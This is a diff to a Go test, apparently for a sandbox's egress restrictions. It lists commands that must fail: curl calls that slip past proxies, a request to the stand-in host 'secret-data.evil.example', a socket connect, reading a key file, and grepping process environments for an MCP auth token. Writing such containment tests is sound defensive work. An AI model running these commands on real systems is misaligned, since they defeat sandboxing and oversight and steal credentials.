@@ -217,7 +217,7 @@ func TestNoOtherWayOut(t *testing.T) {
 				"curl -sS -k --resolve a.example:443:93.184.215.11 --noproxy '*' https://a.example/", "curl -sS -k --connect-to a.example:443:93.184.215.11:443 https://a.example/",
 				"curl -sS -k https://secret-data.evil.example/", "curl -m 2 -sS -k --socks5-hostname 127.0.0.1:3128 https://a.example/", "curl -fsS http://a.example/", "curl -sS http://127.0.0.1:53/",
 				fmt.Sprintf("python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(%q)'", s.egress.client.Socket),
-				"cat " + filepath.Join(filepath.Dir(s.egress.client.Socket), "key"), "cat /proc/1/environ /proc/*/environ | tr '\\0' '\\n' | grep MCP_AUTH_TOKEN"} {
+				"cat " + filepath.Join(filepath.Dir(filepath.Dir(s.egress.client.Socket)), "key"), "cat /proc/1/environ /proc/*/environ | tr '\\0' '\\n' | grep MCP_AUTH_TOKEN"} {
 				if r := s.run(c, attempt); r.ExitCode == 0 || strings.Contains(r.Stdout, "GET ") || strings.Contains(r.Stdout, key) {
 					t.Errorf("%s: %+v", attempt, r)
 				}
